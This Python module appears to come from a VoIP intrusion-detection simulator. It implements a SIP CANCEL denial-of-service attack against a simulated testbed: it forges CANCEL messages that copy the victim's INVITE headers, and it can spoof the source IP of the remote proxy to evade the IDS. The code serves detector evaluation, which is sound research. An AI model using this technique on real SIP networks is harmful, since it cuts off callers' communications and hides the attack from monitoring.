"""CANCEL denial-of-service attack (paper Section 3.1).

"The CANCEL method is used to terminate pending searches or call attempts
... without proper authentication, the receiving UA cannot differentiate
the spoofed CANCEL message from the genuine one, leading to the denial of
the communication between UAs."

The injector watches for a call in its ringing phase and fires a forged
CANCEL at the callee.  With ``spoof_source=False`` the CANCEL comes from the
attacker's own address, which vids flags immediately (its source is outside
the call's participant set); with ``spoof_source=True`` it mimics the
upstream proxy, the undetectable-without-authentication case the paper
acknowledges.
"""

from __future__ import annotations

from typing import Optional

from ..netsim.address import Endpoint
from ..sip.message import SipRequest
from ..telephony.enterprise import EnterpriseTestbed
from .base import Attack, attacker_host

__all__ = ["CancelDosAttack"]

RETRY_INTERVAL = 0.25


class CancelDosAttack(Attack):
    """Kill a pending call attempt with a forged CANCEL."""

    name = "cancel-dos"

    def __init__(self, start_time: float, spoof_source: bool = False,
                 max_wait: float = 600.0):
        super().__init__(start_time)
        self.spoof_source = spoof_source
        self.max_wait = max_wait
        self.victim_call_id: Optional[str] = None

    def install(self, testbed: EnterpriseTestbed) -> None:
        host = attacker_host(testbed)
        sim = testbed.sim
        deadline = self.start_time + self.max_wait

        def attempt() -> None:
            target = self._find_ringing(testbed)
            if target is None:
                if sim.now + RETRY_INTERVAL < deadline:
                    sim.schedule(RETRY_INTERVAL, attempt)
                return
            phone, call = target
            self._strike(testbed, host, phone, call)

        sim.schedule_at(max(self.start_time, sim.now), attempt)

    @staticmethod
    def _find_ringing(testbed: EnterpriseTestbed):
        for phone in testbed.phones_b:
            for call in phone.ua.calls.values():
                if call.state in ("incoming", "ringing") \
                        and not call.is_caller and call.invite_request:
                    return phone, call
        return None

    def _strike(self, testbed, host, phone, call) -> None:
        sim = testbed.sim
        self.victim_call_id = call.call_id
        invite = call.invite_request
        # On-path sniffer: mirror the INVITE's transaction identifiers so
        # the victim's transaction layer matches the CANCEL (RFC 3261 §9.2).
        cancel = SipRequest("CANCEL", invite.uri)
        cancel.set("Via", invite.get("Via"))
        cancel.set("Max-Forwards", 70)
        cancel.set("From", invite.get("From"))
        cancel.set("To", invite.get("To"))
        cancel.set("Call-ID", invite.call_id)
        cseq = invite.cseq
        cancel.set("CSeq", f"{cseq.number} CANCEL")

        # To evade the perimeter IDS the spoofed source must match an address
        # the IDS saw on the INVITE path *outside* the enterprise — i.e. the
        # remote domain's proxy (the Via below the local proxy's), not the
        # local proxy the UAS sees as its previous hop.
        src_ip: Optional[str] = None
        if self.spoof_source:
            vias = invite.vias
            src_ip = vias[1].host if len(vias) > 1 else vias[0].host
        victim = Endpoint(phone.host.ip, 5060)
        host.send_udp(victim, cancel.serialize(), 5060, src_ip=src_ip)
        self.log(sim.now, f"forged CANCEL -> {victim} "
                          f"call={self.victim_call_id} spoof={self.spoof_source}")
